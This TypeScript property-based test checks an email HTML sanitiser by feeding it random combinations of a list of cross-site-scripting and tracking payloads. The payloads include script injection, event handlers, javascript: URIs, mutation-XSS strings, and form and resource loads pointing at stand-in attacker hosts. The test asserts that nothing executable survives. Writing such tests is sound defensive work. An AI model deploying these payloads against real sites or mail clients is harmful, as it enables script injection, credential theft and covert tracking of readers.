import fc from 'fast-check'
import { cleanMail } from './clean-mail.ts'

/** What people who mean harm put into letters; each may stand anywhere in any other. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt/src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://spy.example/1.gif" srcset="https://spy.example/2.gif 2x">',
  '<img/src=`javascript:alert(1)`>',
  '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/a">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
  '<a href="jav&#x09;ascript:alert(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://spy.example/a.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<div style="background:url(https://spy.example/3.gif);position:fixed;inset:0">cover</div>',
  '<p style="color:red;background-image:u\\72l(https://spy.example/4.gif)">escape</p>',
  '<style>@import url(https://spy.example/b.css);*{display:none}</style>',
  '<video poster="https://spy.example/5.gif"><source src="https://spy.example/6.mp4"></video>',
  '<body background="https://spy.example/7.gif"><table background="https://spy.example/8.gif"><tr><td>cell',
  '<template><script>alert(1)</script></template><textarea></textarea><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>open</details><marquee onstart=alert(1)>old</marquee>',
  '<xmp><script>alert(1)</script></xmp><plaintext>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '</p></div></table>words</td>',
] as const

const letter = fc
  .array(fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom('', '<p>', '<td>', '<b>', '<blockquote>', '</p>')), {
    minLength: 1,
    maxLength: 12,
  })
  .map((parts) => parts.map(([harm, around]) => around + harm).join(''))

/** As the browser reads it, in a document in which nothing runs. */
const read = (html: string) => [...new DOMParser().parseFromString(html, 'text/html').body.querySelectorAll('*')]
const RUNS =
  /^(script|iframe|object|embed|svg|math|form|input|button|style|link|meta|base|template|video|audio|source)$/

it('two hundred hostile letters: nothing runs, nobody is asked for anything', () => {
  fc.assert(
    fc.property(letter, (html) => {
      // The clock stands still: that a slow letter is given up is asked elsewhere, on a clock of its own.
      const clean = cleanMail(html, false, () => 0)
      expect(clean).not.toBeNull()
      // Read twice, as a browser that reads what was written once more would.
      const elements = read(read(clean?.html ?? '')[0]?.ownerDocument.body.innerHTML ?? '')
      for (const element of elements) {
        expect(element.localName).not.toMatch(RUNS)
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^(src|srcset|poster|background|action|formaction|srcdoc|data)$/)
          if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:)/)
          if (name === 'style') expect(value).not.toMatch(/url|position|import|expression/i)
        }
      }
    }),
    { numRuns: 200, seed: 44 },
  )
})
